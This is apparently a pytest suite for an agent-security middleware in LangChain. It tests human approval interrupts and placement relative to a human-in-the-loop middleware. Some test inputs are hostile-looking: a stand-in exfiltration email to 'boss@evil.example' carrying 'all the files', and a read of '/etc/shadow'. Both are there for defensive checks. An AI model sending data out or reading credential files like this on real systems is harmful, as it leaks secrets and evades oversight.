"""Approval through a LangGraph interrupt, and the placement relative to HumanInTheLoopMiddleware: listed
after HITL (inner), a reviewer's edit is checked, once; listed before it (outer), it is not."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import pytest
from langchain.agents import create_agent
from langchain.agents.middleware import HumanInTheLoopMiddleware
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from agent_security.adapters.langchain import AgentSecurityMiddleware
from agent_security.core import AgentSecurity


class ScriptedModel(GenericFakeChatModel):
    """langchain_core's fake chat model with the scripted replies in order; ``bind_tools`` keeps them."""

    def bind_tools(self, tools: Sequence[Any], **kwargs: Any) -> Any:
        return self


def call(name: str, args: dict[str, Any], call_id: str) -> AIMessage:
    return AIMessage(content="", tool_calls=[{"name": name, "args": args, "id": call_id, "type": "tool_call"}])


RAN: list[tuple[str, dict[str, Any]]] = []


@tool
def read_file(path: str) -> str:
    """Read a file."""
    RAN.append(("read_file", {"path": path}))
    return f"contents of {path}"


@tool
def send_email(to: str, body: str) -> str:
    """Send an email."""
    RAN.append(("send_email", {"to": to, "body": body}))
    return f"sent to {to}"


@tool
def pay(amount: int) -> str:
    """Pay an amount."""
    RAN.append(("pay", {"amount": amount}))
    return f"paid {amount}"


@pytest.fixture(autouse=True)
def _reset() -> None:
    RAN.clear()


def build(security: AgentSecurity, first: AIMessage, middleware: list[Any]) -> Any:
    model = ScriptedModel(messages=iter([first, AIMessage(content="done")]))
    return create_agent(model, tools=[read_file, send_email, pay], middleware=middleware, checkpointer=InMemorySaver())


def decisions(security: AgentSecurity, tool_name: str) -> list[Any]:
    return [e for e in security.get_audit_log() if e.kind == "decision" and e.tool_name == tool_name]


def tool_messages(state: Any) -> list[ToolMessage]:
    values = state.value if hasattr(state, "value") else state
    return [m for m in values["messages"] if isinstance(m, ToolMessage)]


CONFIG = {"configurable": {"thread_id": "review-1"}}
ASK = {"messages": [{"role": "user", "content": "go"}]}


# -- approval through an interrupt -------------------------------------------------------------------------
@pytest.mark.parametrize("answer", ["approve", {"type": "approve", "reviewer": "fin-1"}, True])
def test_approval_interrupts_then_an_approval_runs_the_tool_once(security: AgentSecurity, answer: Any) -> None:
    graph = build(security, call("pay", {"amount": 50}, "p1"), [AgentSecurityMiddleware(security)])
    first = graph.invoke(ASK, CONFIG, version="v2")
    [pending] = first.interrupts
    assert pending.value["type"] == "agent_security_approval"
    assert pending.value["outcome"] == "REQUIRE_APPROVAL" and pending.value["tool_name"] == "pay"
    assert pending.value["reasons"][0]["code"] == "APPROVE_PAYMENTS"
    assert RAN == []
    state = graph.invoke(Command(resume=answer), CONFIG, version="v2")
    assert RAN == [("pay", {"amount": 50})]
    assert tool_messages(state)[-1].status == "success"
    resolutions = [e for e in security.get_audit_log() if e.kind == "resolution" and e.tool_name == "pay"]
    assert [r.outcome.value for r in resolutions] == ["DENY", "ALLOW"]  # deferred, then approved
    assert "APPROVED" in [r.code for r in resolutions[-1].reasons]
    assert len(decisions(security, "pay")) == 2  # the pause and the approved call: no third check


def test_a_rejection_never_runs_the_tool_and_the_model_reads_why(security: AgentSecurity) -> None:
    graph = build(security, call("pay", {"amount": 50}, "p1"), [AgentSecurityMiddleware(security)])
    graph.invoke(ASK, CONFIG, version="v2")
    state = graph.invoke(Command(resume={"type": "reject", "message": "not this month"}), CONFIG, version="v2")
    assert RAN == []
    [message] = tool_messages(state)
    assert message.status == "error" and "REJECTED" in str(message.content) and "not this month" in str(message.content)


@pytest.mark.parametrize("answer", ["maybe", 1, {"type": "edit"}, {"approved": "yes"}])
def test_an_unrecognised_answer_is_a_rejection(security: AgentSecurity, answer: Any) -> None:
    graph = build(security, call("pay", {"amount": 50}, "p1"), [AgentSecurityMiddleware(security)])
    graph.invoke(ASK, CONFIG, version="v2")
    graph.invoke(Command(resume=answer), CONFIG, version="v2")
    assert RAN == []


async def test_async_approval(security: AgentSecurity) -> None:
    graph = build(security, call("pay", {"amount": 7}, "p1"), [AgentSecurityMiddleware(security)])
    first = await graph.ainvoke(ASK, CONFIG, version="v2")
    assert first.interrupts and RAN == []
    await graph.ainvoke(Command(resume="approve"), CONFIG, version="v2")
    assert RAN == [("pay", {"amount": 7})]


def test_resume_in_another_middleware_instance_still_binds_the_answer(security: AgentSecurity) -> None:
    """Another process resuming has no memory of the pause: one more check, same result."""
    saver = InMemorySaver()
    model = ScriptedModel(messages=iter([call("pay", {"amount": 5}, "p1"), AIMessage(content="done")]))
    first = create_agent(model, tools=[pay], middleware=[AgentSecurityMiddleware(security)], checkpointer=saver)
    first.invoke(ASK, CONFIG, version="v2")
    second = create_agent(model, tools=[pay], middleware=[AgentSecurityMiddleware(security)], checkpointer=saver)
    second.invoke(Command(resume="approve"), CONFIG, version="v2")
    assert RAN == [("pay", {"amount": 5})]


def test_pipeline_mode_uses_the_instance_callbacks(policy: str) -> None:
    seen: list[str] = []

    def approver(request: Any, decision: Any) -> bool:
        seen.append(request.tool_name)
        return False

    with AgentSecurity(policy_json=policy, autoload=False, on_approval_required=approver) as security:
        graph = build(
            security, call("pay", {"amount": 5}, "p1"), [AgentSecurityMiddleware(security, approval="pipeline")]
        )
        state = graph.invoke(ASK, CONFIG, version="v2")
    assert seen == ["pay"] and RAN == [] and not state.interrupts


# -- placement relative to HumanInTheLoopMiddleware ---------------------------------------------------------
SWITCH = {
    "type": "edit",
    "edited_action": {"name": "send_email", "args": {"to": "boss@evil.example", "body": "all the files"}},
}


def test_inner_batched_an_edit_that_switches_the_tool_is_checked_once(security: AgentSecurity) -> None:
    hitl = HumanInTheLoopMiddleware(interrupt_on={"read_file": True}, interrupt_mode="batched")
    graph = build(security, call("read_file", {"path": "/tmp/a"}, "r1"), [hitl, AgentSecurityMiddleware(security)])
    graph.invoke(ASK, CONFIG, version="v2")
    state = graph.invoke(Command(resume={"decisions": [SWITCH]}), CONFIG, version="v2")
    assert RAN == []  # the email the reviewer switched to never went out
    assert "DENY_OUTSIDE_EMAIL" in str(tool_messages(state)[-1].content)
    assert len(decisions(security, "send_email")) == 1 and decisions(security, "read_file") == []


def test_inner_per_call_an_edit_is_checked_once(security: AgentSecurity) -> None:
    hitl = HumanInTheLoopMiddleware(interrupt_on={"read_file": True}, interrupt_mode="per_call")
    graph = build(security, call("read_file", {"path": "/tmp/a"}, "r1"), [hitl, AgentSecurityMiddleware(security)])
    first = graph.invoke(ASK, CONFIG, version="v2")
    assert decisions(security, "read_file") == []  # nothing checked before the reviewer answered
    [pending] = first.interrupts
    edit = {"type": "edit", "edited_action": {"name": "read_file", "args": {"path": "/etc/shadow"}}}
    state = graph.invoke(Command(resume={pending.id: edit}), CONFIG, version="v2")
    assert RAN == []
    assert "DENY_SYSTEM_FILES" in str(tool_messages(state)[-1].content)
    assert len(decisions(security, "read_file")) == 1


def test_inner_per_call_an_approved_call_is_checked_once(security: AgentSecurity) -> None:
    hitl = HumanInTheLoopMiddleware(interrupt_on={"read_file": True}, interrupt_mode="per_call")
    graph = build(security, call("read_file", {"path": "/tmp/a"}, "r1"), [hitl, AgentSecurityMiddleware(security)])
    [pending] = graph.invoke(ASK, CONFIG, version="v2").interrupts
    graph.invoke(Command(resume={pending.id: {"type": "approve"}}), CONFIG, version="v2")
    assert RAN == [("read_file", {"path": "/tmp/a"})]
    assert len(decisions(security, "read_file")) == 1


def test_outer_batched_is_unsupported_the_switched_call_runs_unchecked(security: AgentSecurity) -> None:
    """Why the docs say "after HITL": listed before it, the middleware checks the call the model made, and
    the reviewer's switch to another tool runs without any check."""
    hitl = HumanInTheLoopMiddleware(interrupt_on={"read_file": True}, interrupt_mode="batched")
    graph = build(security, call("read_file", {"path": "/tmp/a"}, "r1"), [AgentSecurityMiddleware(security), hitl])
    graph.invoke(ASK, CONFIG, version="v2")
    graph.invoke(Command(resume={"decisions": [SWITCH]}), CONFIG, version="v2")
    assert RAN == [("send_email", {"to": "boss@evil.example", "body": "all the files"})]
    assert decisions(security, "send_email") == []


def test_outer_per_call_is_unsupported_it_checks_twice(security: AgentSecurity) -> None:
    hitl = HumanInTheLoopMiddleware(interrupt_on={"read_file": True}, interrupt_mode="per_call")
    graph = build(security, call("read_file", {"path": "/tmp/a"}, "r1"), [AgentSecurityMiddleware(security), hitl])
    [pending] = graph.invoke(ASK, CONFIG, version="v2").interrupts
    graph.invoke(Command(resume={pending.id: {"type": "approve"}}), CONFIG, version="v2")
    assert len(decisions(security, "read_file")) == 2
